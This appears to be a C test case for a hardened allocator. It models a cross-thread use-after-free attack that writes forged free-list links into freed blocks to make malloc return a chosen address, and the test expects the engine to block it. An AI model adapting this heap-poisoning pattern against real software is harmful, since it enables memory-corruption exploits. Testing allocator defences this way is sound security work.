// attack: a link to a chosen place, written into a block that another thread has freed
// has: a dangling pointer to write through; addresses of its own blocks; two threads
// reaches: malloc gives either thread a place in the program's data
// never: engine hardened
#include <pthread.h>

#include "attack.h"

enum { blocks = 32 };
static char* sent[blocks];

static void look_for_target(void) {
  for (int i = 0; i < 2 * blocks; ++i)
    if (take(0x38) == target) reached();
}

static void* free_them(void* none) {
  for (int i = 0; i < blocks; ++i) drop(sent[i]);
  for (int i = 0; i < blocks; ++i) put_word(sent[i], 0, mixed(target, sent[i]));
  look_for_target();
  return none;
}

int main(void) {
  for (int i = 0; i < blocks; ++i) sent[i] = take(0x38);
  pthread_t thread;
  if (pthread_create(&thread, NULL, free_them, NULL) != 0) return 3;
  pthread_join(thread, NULL);
  look_for_target();
  nothing();
}
